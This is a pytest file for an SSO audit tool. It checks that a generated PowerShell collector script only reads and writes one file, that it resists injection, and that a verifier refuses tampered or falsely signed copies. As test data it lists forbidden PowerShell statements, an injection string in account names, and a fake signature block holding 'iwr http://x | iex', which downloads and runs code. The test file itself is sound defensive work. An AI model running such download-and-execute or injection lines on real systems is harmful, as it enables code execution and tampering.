"""The stand-alone script: the node script to the letter, and around it nothing but what writes one file."""

import base64
import hashlib
import json
import re
from pathlib import Path

import pytest
import readonly
import wrapped
from hypothesis import given
from hypothesis import strategies as st

from ssoaudit.collect import standalone as standalone_script
from ssoaudit.collect.collection import Options
from ssoaudit.collect.frames import read_transcript, readings
from ssoaudit.collect.parameters import of_inventory
from ssoaudit.collect.script import script, sha256
from ssoaudit.collect.standalone import is_signed, standalone, verify, wrapper
from ssoaudit.documents import DocumentError
from ssoaudit.evidence import Missing
from ssoaudit.facts import Env
from ssoaudit.lab.estate import healthy

READ_ONLY_PAGE = Path(__file__).parents[2] / "docs" / "read-only.md"
PARAMETERS = of_inventory(healthy().inventory(), Options())
DATA = standalone(PARAMETERS)
SOURCE = DATA.decode("ascii").replace("\r\n", "\n")
SIGNATURE = b"\r\n# SIG # Begin signature block\r\n# MIIabc=\r\n# SIG # End signature block\r\n"
AFTER = "$temporary = "

texts = st.text(st.characters(), max_size=8)


def test_it_is_ascii_with_line_ends_of_windows() -> None:
    assert DATA.isascii()
    assert DATA.count(b"\n") == DATA.count(b"\r\n") == DATA.count(b"\r")
    assert DATA.endswith(b"\r\n")


def test_it_is_powershell() -> None:
    assert readonly.is_powershell(SOURCE)


def test_the_node_script_stands_in_it_to_the_letter() -> None:
    found = wrapped.node_script(SOURCE)
    assert found == script()
    assert hashlib.sha256(found.encode("ascii")).hexdigest() == sha256()
    assert f"$ScriptHash = '{sha256()}'\n" in SOURCE


def test_the_node_script_cannot_end_the_place_it_stands_in() -> None:
    assert "ssoaudit node script" not in script()
    assert not standalone_script._PLACE.search(script())


def test_what_is_asked_for_can_be_read_by_people_and_is_what_is_used() -> None:
    (told,) = re.findall(r"(?m)^# What is asked for: (.*)$", SOURCE)
    (used,) = re.findall(r"(?m)^\$Parameters = '(.*)'$", SOURCE)
    assert json.loads(told) == json.loads(base64.b64decode(used)) == PARAMETERS


@given(st.lists(texts.filter(bool)))
def test_names_never_become_code(names: list[str]) -> None:
    source = standalone({**PARAMETERS, "accounts": ["@SCRIPT@", "'; exit #", *names]}).decode("ascii")
    assert source.count("\n") == SOURCE.count("\n")
    assert wrapped.violations(source.replace("\r\n", "\n")) == []


# That it only reads, and writes one file


def test_the_wrapper_writes_one_file_and_else_only_reads() -> None:
    assert wrapped.violations(SOURCE) == []


@pytest.mark.parametrize(
    "statement",
    [
        "Remove-Item x",
        "rm x",
        "notepad.exe",
        "& notepad",
        "& $file",
        "& { 1 }",
        ". $x",
        "Invoke-Expression $text",
        "Get-Location -PSProvider Registry",
        "New-Object IO.StreamWriter $file",
        "New-Object -ComObject WScript.Shell",
        "$text > $file",
        "'x' | Out-File $file",
        "[IO.File]::Delete($file)",
        "[IO.File]::Delete($x)",
        "[IO.File]::Move($file, $temporary)",
        "[IO.File]::Copy($temporary, $file)",
        "[IO.File]::WriteAllBytes($file, $hash)",
        "[IO.File]::WriteAllBytes($temporary, $utf8.GetBytes($text.ToString()))",
        "[IO.Directory]::Delete($file)",
        "[Environment]::Exit(1)",
        "[Environment]::CurrentDirectory",
        "[ScriptBlock]::Create($text)",
        "$file = 'x'",
        "$File = 'x'",
        "$temporary = $file",
        "$NodeScript = { 1 }",
        "$Parameters = $x",
        "$Parameters = '$x'",
        "$text.Flush.Invoke()",
        "$env:PATH",
        "$env:PATH = 'x'",
        "$function:x = { 1 }",
        "foreach ($file in 'x') { 1 }",
        "function Get-Location { 1 }",
        "trap { 1 }",
        r"'C:\Windows'",
        "class A { }",
        "#\u2013",
    ],
)
def test_the_proof_notices_what_is_put_into_the_wrapper(statement: str) -> None:
    assert wrapped.violations(SOURCE.replace(AFTER, f"{statement}\n{AFTER}")) != []


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (".ProviderPath, ", ".Path, "),
        ("COMPUTERNAME.ssofacts", "COMPUTERNAME.exe"),
        ("Delete($temporary)", "Delete($file)"),
        ("Move($temporary, $file)", "Move($file, $temporary)"),
        ("& $NodeScript", "& $Node"),
        ("$PID.tmp", "tmp"),
        ("# ssoaudit node script: end", "# end"),
    ],
)
def test_the_proof_notices_what_is_changed_in_the_wrapper(old: str, new: str) -> None:
    assert old in SOURCE
    assert wrapped.violations(SOURCE.replace(old, new, 1)) != []


@pytest.mark.parametrize("name", ["TYPES", "MEMBERS", "WRITES", "BARE_WORDS"])
def test_the_lists_name_nothing_that_is_not_used(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    allowed: frozenset[str] = getattr(wrapped, name)
    for entry in allowed:
        monkeypatch.setattr(wrapped, name, allowed - {entry})
        assert wrapped.violations(SOURCE) != [], entry


def test_the_file_has_its_name_only_once_everything_was_read() -> None:
    steps = (
        "WriteAllText(",
        "& $NodeScript",
        "WriteAllBytes(",
        "::Replace(",
        "::Move(",
        "finally {\n    if (-not $isWhole) { [IO.File]::Delete(",
    )
    calls = [SOURCE.index(step) for step in steps]
    assert calls == sorted(calls)
    assert "if ($Force -and [IO.File]::Exists($file)) {\n        [IO.File]::Replace(" in SOURCE


def test_a_restricted_language_is_told_before_anything_that_it_forbids() -> None:
    before = wrapper().split("exit 1")[0]
    assert "LanguageMode" in before
    assert set(re.findall(r"\[([\w.]+)\]", before.split("param(")[1])) == {"switch", "string"}


def test_a_server_that_restricts_the_language_is_told_of_the_way() -> None:
    refused = read_transcript(b"SSOAUDIT/1 REFUSED language-mode ConstrainedLanguage\r\n")
    reading = readings("NODE1", (Env,), refused, None)[Env.topic]
    assert isinstance(reading, Missing)
    assert "(ssoaudit collector -o), run it on NODE1, and collect with --from." in reading.hint


def test_the_wrapper_does_not_read_itself() -> None:
    assert not re.search(r"MyInvocation|PSCommandPath|PSScriptRoot", wrapper())


def page_section(heading: str) -> list[str]:
    section = READ_ONLY_PAGE.read_text(encoding="utf-8").split(f"\n### {heading}\n")[1].split("\n#")[0]
    return [cell for line in section.splitlines() for cell in re.findall(r"^\| `(.*?)` \|", line)]


def test_the_page_lists_what_the_wrapper_calls() -> None:
    commands = [f"{name} {each}" for name, arguments in wrapped.COMMANDS.items() for each in arguments]
    assert sorted(page_section("What the wrapper calls")) == sorted([*commands, wrapped.CALLED, *wrapped.MEMBERS])
    assert sorted(page_section("What the wrapper writes")) == sorted(wrapped.WRITES)


# That it can be verified


@pytest.fixture
def saved(tmp_path: Path) -> Path:
    path = tmp_path / "Collect-SsoFacts.ps1"
    path.write_bytes(DATA)
    return path


@pytest.mark.parametrize("change", [b"", SIGNATURE])
def test_a_script_is_known_again_with_and_without_a_signature(saved: Path, change: bytes) -> None:
    saved.write_bytes(DATA + change)
    assert verify(saved) is bool(change)
    assert is_signed(saved.read_bytes()) is bool(change)


@pytest.mark.parametrize(
    "block",
    [
        b"\r\n# SIG # Begin signature block\r\niwr http://x | iex\r\n",
        SIGNATURE.replace(b"# MII", b"exit # MII"),
        SIGNATURE.replace(b"MIIabc=", b"MII\rexit"),
        SIGNATURE.replace(b"# MIIabc=\r\n", b""),
        SIGNATURE + b"exit\r\n",
        SIGNATURE + SIGNATURE,
    ],
)
def test_what_is_no_signature_is_a_change(saved: Path, block: bytes) -> None:
    saved.write_bytes(DATA + block)
    with pytest.raises(DocumentError, match="what stands around it was changed"):
        verify(saved)


def test_line_ends_do_not_matter(saved: Path) -> None:
    saved.write_bytes(b"\xef\xbb\xbf" + DATA.replace(b"\r\n", b"\n"))
    assert not verify(saved)


@pytest.mark.parametrize(
    ("old", "new", "sentence"),
    [
        (b"EnumKey", b"DeleteKey", "the node script in it has the SHA-256 "),
        (b"Delete($temporary)", b"Delete($x)", "what stands around it was changed"),
        (b"$ScriptHash = '", b"$ScriptHash = '0", "what stands around it was changed"),
        (b"# What is asked for: {", b"# What is asked for: { ", "what stands around it was changed"),
        (b"$Parameters = 'e", b"$Parameters = 'f", "the parameters are not Base64 of JSON"),
        (b"# ssoaudit node script: begin", b"#", "this is no stand-alone script of ssoaudit"),
        (b'"Written: $file"\r\n', b'"Written: $file"\r\nexit\r\n', "what stands around it was changed"),
    ],
)
def test_an_altered_script_is_refused(saved: Path, old: bytes, new: bytes, sentence: str) -> None:
    assert old in DATA
    saved.write_bytes(DATA.replace(old, new, 1) + SIGNATURE)
    with pytest.raises(DocumentError) as refused:
        verify(saved)
    assert str(refused.value).startswith(f"{saved}: ")
    assert sentence in refused.value.message
